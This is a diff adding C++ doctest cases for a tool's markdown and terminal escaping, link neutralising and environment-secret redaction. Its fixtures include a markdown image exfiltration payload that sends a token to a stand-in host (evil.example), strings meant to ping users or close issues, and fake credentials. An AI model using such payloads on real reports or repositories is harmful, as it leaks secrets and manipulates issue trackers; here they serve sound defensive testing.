@@ -1,6 +1,7 @@
 // The escapers of common/include/rnx/common/text.hpp with hostile strings (images with a secret in the URL, HTML
-// headings, carriage returns, ANSI and OSC 8 sequences, javascript: links), and the verdict renderers that use them:
-// nothing of the input survives as markup or as a terminal control.
+// headings, carriage returns, ANSI and OSC 8 sequences, javascript: links, @mentions and issue references, fences),
+// and the verdict renderers that use them: nothing of the input survives as markup, a link or a terminal control,
+// and no credential of the environment is published.
 #include "rnx/common/report.hpp"
 #include "rnx/common/text.hpp"
 
@@ -8,10 +9,13 @@
 
 #include <doctest/doctest.h>
 
+#include <cstdlib>
 #include <string>
 #include <vector>
 
 using namespace rnx;
+using rnx::test_support::github_links;
+using rnx::test_support::outside_code;
 using rnx::test_support::outside_code_spans;
 
 namespace {
@@ -95,7 +99,7 @@ TEST_CASE("terminal_safe: escape sequences and control characters are removed, t
 
 TEST_CASE("markdown_escape: every hostile string is one line of literal text") {
   CHECK(markdown_escape("![leak](https://evil.example/x.png?token=SECRET)") ==
-        "\\!\\[leak\\]\\(https://evil.example/x.png?token=SECRET\\)");
+        "\\!\\[leak\\]\\(https:\xE2\x80\x8D//evil.example/x.png?token=SECRET\\)");
   CHECK(markdown_escape("<h1>x</h1>") == "\\<h1\\>x\\</h1\\>");
   CHECK(markdown_escape("&lt;") == "\\&lt;");
   CHECK(markdown_escape("- item") == "\\- item");
@@ -170,6 +174,114 @@ TEST_CASE("verdict renderers: reasons, names and commits from a run are data in 
     const std::string text = render_verdict_text(v);
     CHECK_FALSE(has_terminal_control(text, true));
     CHECK(text.find('\x1b') == std::string::npos);
+  }
+}
+
+namespace {
+
+// What a candidate's exception may carry to ping people, link or close issues and add links.
+const std::string mentions_and_references =
+    "@octocat @github/security-team Closes #1 fixes owner/repo#12 GH-7 "
+    "https://github.com/owner/repo/issues/3 www.example.com user@example.com";
+
+std::string without_joiners(std::string text) {
+  for (std::size_t at = text.find("\xE2\x80\x8D"); at != std::string::npos; at = text.find("\xE2\x80\x8D", at)) {
+    text.erase(at, 3);
+  }
+  return text;
+}
+
+}  // namespace
+
+TEST_CASE("unlinked: no mention, issue reference or URL stays live; the text reads the same; twice changes nothing") {
+  REQUIRE(github_links(mentions_and_references).size() == 7);  // the probe sees each but the e-mail address
+  const std::string out = unlinked(mentions_and_references);
+  CHECK_MESSAGE(github_links(out).empty(), github_links(out).front());
+  CHECK(without_joiners(out) == mentions_and_references);
+  CHECK(unlinked(out) == out);
+  CHECK(unlinked("C# 3.0, a-1, x @ y, ## notes") == "C# 3.0, a-1, x @ y, ## notes");  // nothing that links
+  CHECK(unlinked("Closes #1") ==
+        "Closes #\xE2\x80\x8D"
+        "1");
+  CHECK(github_links(outside_code(markdown_escape(mentions_and_references))).empty());
+}
+
+TEST_CASE("capped: at most `most` bytes on a character boundary, the cut said") {
+  CHECK(capped("short", 8) == "short");
+  CHECK(capped("abcdefghij", 4) == "abcd [... 6 more bytes]");
+  CHECK(capped("\xc3\xa9\xc3\xa9\xc3\xa9", 3) == "\xc3\xa9 [... 4 more bytes]");  // never half of an "é"
+}
+
+TEST_CASE("markdown_quoted: a fenced block no line can close, unlinked, without controls, capped") {
+  const std::string text = "Traceback:\n  ```` not a fence\n```\n" + mentions_and_references + "\n\x1b[2J\rend\n";
+  const std::string md = markdown_quoted(text);
+  // The fence is longer than the longest run inside (4), and the block is the whole text.
+  CHECK(md.rfind("`````text\n", 0) == 0);
+  CHECK(md.size() > 6);
+  CHECK(md.substr(md.size() - 6) == "`````\n");
+  CHECK(outside_code(md).empty());
+  CHECK(md.find("  ```` not a fence\n```\n") != std::string::npos);  // lines kept as written
+  CHECK(github_links(md).empty());                                   // inside the block too (commit messages)
+  CHECK_FALSE(has_terminal_control(md, true));
+  CHECK(markdown_quoted("a").rfind("```text\na\n```\n", 0) == 0);  // three backticks at least
+  const std::string long_text(10000, 'x');
+  const std::string capped_md = markdown_quoted(long_text, 4000);
+  CHECK(capped_md.size() < 4100);
+  CHECK(capped_md.find("[... 6000 more bytes]") != std::string::npos);
+  for (const auto& h : hostile) {
+    CAPTURE(h);
+    const std::string quoted = markdown_quoted(h);
+    CHECK(outside_code(quoted).empty());
+    CHECK_FALSE(has_terminal_control(quoted, true));
+  }
+}
+
+TEST_CASE("markdown_cell_quotes: a short text stays in its cell; a long or multi-line one is summed up, whole below") {
+  markdown_cell_quotes cells(40);
+  CHECK(cells.cell("smoke", "max abs err 0.0") == "max abs err 0.0");
+  CHECK(cells.full_texts("Details in full").empty());
+  const std::string cell = cells.cell("candidate 2", "RuntimeError: " + mentions_and_references);
+  CHECK(cell.find("(in full below)") != std::string::npos);
+  CHECK(cell.find('\n') == std::string::npos);
+  CHECK(github_links(outside_code(cell)).empty());
+  CHECK(cells.cell("candidate 3", "two\nlines").find("(in full below)") != std::string::npos);
+  const std::string full = cells.full_texts("Details in full");
+  CHECK(full.rfind("<details><summary>Details in full</summary>\n\n**candidate 2**\n\n```text\n", 0) == 0);
+  CHECK(full.find("**candidate 3**\n\n```text\ntwo\nlines\n```\n") != std::string::npos);
+  CHECK(full.substr(full.size() - 11) == "</details>\n");
+  CHECK(github_links(outside_code(full)).empty());
+  CHECK(without_joiners(full).find(mentions_and_references) != std::string::npos);  // whole, in the block
+}
+
+TEST_CASE("environment_secrets and redact: a credential's value of the environment is never published") {
+  ::setenv("RNX_TEST_SECRET_TOKEN", "rnx-test-secret-5f1c9a7e", 1);
+  ::setenv("RNX_TEST_SECRET_TOKEN_LONG", "rnx-test-secret-5f1c9a7e-and-more", 1);
+  ::setenv("RNX_TEST_SHORT_KEY", "abc", 1);
+  ::setenv("RNX_TEST_PLAIN_NAME", "rnx-test-plain-value", 1);
+  auto looks_secret = +[](const std::string& name) {
+    return name.find("TOKEN") != std::string::npos || name.find("KEY") != std::string::npos;
+  };
+  const std::vector<secret_value> secrets = environment_secrets(looks_secret);
+  auto named = [&](const std::string& name) {
+    for (const auto& s : secrets) {
+      if (s.name == name) return true;
+    }
+    return false;
+  };
+  CHECK(named("RNX_TEST_SECRET_TOKEN"));
+  CHECK(named("RNX_TEST_SECRET_TOKEN_LONG"));
+  CHECK_FALSE(named("RNX_TEST_SHORT_KEY"));  // too short to be a credential
+  CHECK_FALSE(named("RNX_TEST_PLAIN_NAME"));
+  // The longer value first, so the value holding the other is hidden whole.
+  CHECK(redact("a rnx-test-secret-5f1c9a7e-and-more b rnx-test-secret-5f1c9a7e c", secrets) ==
+        "a [redacted RNX_TEST_SECRET_TOKEN_LONG] b [redacted RNX_TEST_SECRET_TOKEN] c");
+  CHECK(redact("nothing secret", secrets) == "nothing secret");
+  const std::string published = markdown_quoted(redact("raised with rnx-test-secret-5f1c9a7e inside", secrets));
+  CHECK(published.find("rnx-test-secret-5f1c9a7e") == std::string::npos);
+  CHECK(published.find("[redacted RNX_TEST_SECRET_TOKEN]") != std::string::npos);
+  for (const char* name :
+       {"RNX_TEST_SECRET_TOKEN", "RNX_TEST_SECRET_TOKEN_LONG", "RNX_TEST_SHORT_KEY", "RNX_TEST_PLAIN_NAME"}) {
+    ::unsetenv(name);
   }
 }
 
